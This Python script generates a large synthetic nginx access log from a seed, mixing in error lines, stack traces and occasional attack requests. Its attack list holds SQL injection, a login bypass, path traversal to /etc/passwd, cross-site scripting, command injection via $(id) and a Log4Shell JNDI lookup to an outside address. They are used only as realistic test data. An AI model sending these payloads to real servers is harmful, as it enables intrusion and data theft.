# Copyright: fleetcare.maintenance contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A web server's log as large as one likes, the same bytes for the same seed.

The combined format of nginx with ``rt=$request_time urt="$upstream_response_time"`` behind it, about 140 bytes a line.
Two lines in a thousand are lines of the error log, as a container's standard output mixes them in; now and then comes an
application's stack trace; two requests in a thousand are attacks. Addresses are of the documentation ranges.

    python generate_log.py access.log --lines 2000000
"""

from __future__ import annotations

import argparse
import random
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

START = datetime(2026, 3, 2, 0, 0, 0, tzinfo=timezone.utc)
PER_SECOND = 23
_CHUNK = 20000
ERRORS = 0.002

_ROUTES = (
    ("/", 12, 5200, 0.012),
    ("/static/app.{n}.js", 14, 182000, 0.001),
    ("/static/site.css", 10, 31000, 0.001),
    ("/img/rooms/{n}.webp", 16, 48000, 0.002),
    ("/img/401.png", 1, 900, 0.001),
    ("/api/v1/rooms/{n}", 14, 1400, 0.030),
    ("/api/v1/bookings?room={n}&from=2026-03-02", 9, 2600, 0.055),
    ("/api/v1/search?q=error+report+{n}", 2, 3900, 0.140),
    ("/selected-plans?dropdown=1", 2, 7700, 0.020),
    ("/login", 4, 2100, 0.090),
    ("/health", 8, 17, 0.001),
    ("/books/{n}/loans", 8, 4100, 0.040),
)
_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0",
    "curl/8.5.0",
    "kube-probe/1.30",
    "Prometheus/2.53.0",
)
_ATTACKS = (
    "/books/1%20%55nion%20%53elect%20password%20from%20users--",
    "/login?user=admin%27%20or%201=1--",
    "/static/../../../../etc/passwd",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/cgi-bin/luci/;stok=/locale?form=country&x=$(id)",
    "/?x=${jndi:ldap://198.51.100.9/a}",
    "/wp-login.php",
)
_ERRORS = (
    (
        "[error] 31#31: *{n} upstream timed out (110: Connection timed out) while reading response header from upstream, "
        'client: 203.0.113.{low}, server: rooms.example.org, request: "GET /api/v1/rooms/{n} HTTP/1.1", '
        'upstream: "http://10.0.4.{low}:8080/api/v1/rooms/{n}"'
    ),
    (
        "[error] 31#31: *{n} connect() failed (111: Connection refused) while connecting to upstream, "
        'client: 203.0.113.{low}, server: rooms.example.org, request: "POST /login HTTP/1.1"'
    ),
    '[error] 32#32: *{n} open() "/srv/www/img/rooms/{n}.webp" failed (2: No such file or directory)',
    "[warn] 31#31: *{n} an upstream response is buffered to a temporary file /var/cache/nginx/{low}/{n}",
    "[crit] 32#32: *{n} SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share)",
)
_TRACE = """\
Traceback (most recent call last):
  File "/srv/app/rooms/views.py", line 118, in book
    return self.store.book(room={n}, user=request.user.id)
  File "/srv/app/rooms/store.py", line 64, in book
    raise Conflict(f"room {{room}} is taken")
rooms.errors.Conflict: room {n} is taken
"""


def chunks(lines: int, *, seed: int = 1, start: datetime = START, errors: float = ERRORS) -> Iterator[str]:
    """The log in pieces of whole lines; a stack trace counts as one line of ``lines``."""
    source = random.Random(seed)
    bodies = [_body(source) for _body_number in range(_CHUNK)]
    done = 0
    while done < lines:
        many = min(_CHUNK, lines - done)
        moments = (start + timedelta(seconds=(done + at) // PER_SECOND) for at in range(many))
        yield "".join(_line(source, bodies, moment, errors) for moment in moments)
        done += many


def _body(source: random.Random) -> tuple[str, str]:
    """What stands before and behind the time of one request."""
    path, _weight, size, seconds = source.choices(_ROUTES, weights=[route[1] for route in _ROUTES])[0]
    status = source.choices((200, 304, 301, 404, 401, 500, 502), weights=(900, 50, 10, 25, 6, 5, 4))[0]
    path = path.format(n=source.randrange(1, 4000))
    if source.random() < 0.002:
        path, status = source.choice(_ATTACKS), source.choice((200, 403, 404))
    method = "POST" if path.startswith("/login") and source.random() < 0.7 else "GET"
    took = source.lognormvariate(0, 0.8) * seconds * (20 if status >= 500 else 1)
    sent = 0 if status == 304 else max(1, int(source.gauss(size, size / 10)))
    who = source.choice((f"203.0.113.{source.randrange(256)}", f"198.51.100.{source.randrange(256)}", "2001:db8::7"))
    referrer = source.choice(("-", "-", "https://rooms.example.org/"))
    upstream = "-" if path.startswith(("/static", "/img")) else f"{took * 0.97:.3f}"
    tail = (
        f'] "{method} {path} HTTP/1.1" {status} {sent} "{referrer}" "{source.choice(_AGENTS)}" '
        f'rt={took:.3f} urt="{upstream}"\n'
    )
    return f"{who} - - [", tail


def _line(source: random.Random, bodies: list[tuple[str, str]], moment: datetime, errors: float) -> str:
    drawn = source.random()
    if drawn < errors:
        text = source.choice(_ERRORS).format(n=source.randrange(1, 1_000_000), low=source.randrange(1, 255))
        return f"{moment:%Y/%m/%d %H:%M:%S} {text}\n"
    if drawn < errors + 0.00002:
        return _TRACE.format(n=source.randrange(1, 4000))
    head, tail = bodies[int(drawn * len(bodies))]
    return f"{head}{_stamp(moment)}{tail}"


_STAMPS: dict[datetime, str] = {}


def _stamp(moment: datetime) -> str:
    """The time as the combined format has it; many lines share a second."""
    stamp = _STAMPS.get(moment)
    if stamp is None:
        _STAMPS.clear()
        stamp = _STAMPS[moment] = f"{moment:%d/%b/%Y:%H:%M:%S} +0000"
    return stamp


def generate(path: Path, *, lines: int, seed: int = 1, start: datetime = START, errors: float = ERRORS) -> int:
    """Write the log, ``errors`` being the share of lines of an error log; returns its size in bytes."""
    with path.open("w", encoding="utf-8") as stream:
        for chunk in chunks(lines, seed=seed, start=start, errors=errors):
            stream.write(chunk)
    return path.stat().st_size


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("path", type=Path)
    parser.add_argument("--lines", type=int, default=2_000_000)
    parser.add_argument("--seed", type=int, default=1)
    arguments = parser.parse_args()
    generate(arguments.path, lines=arguments.lines, seed=arguments.seed)


if __name__ == "__main__":
    main()
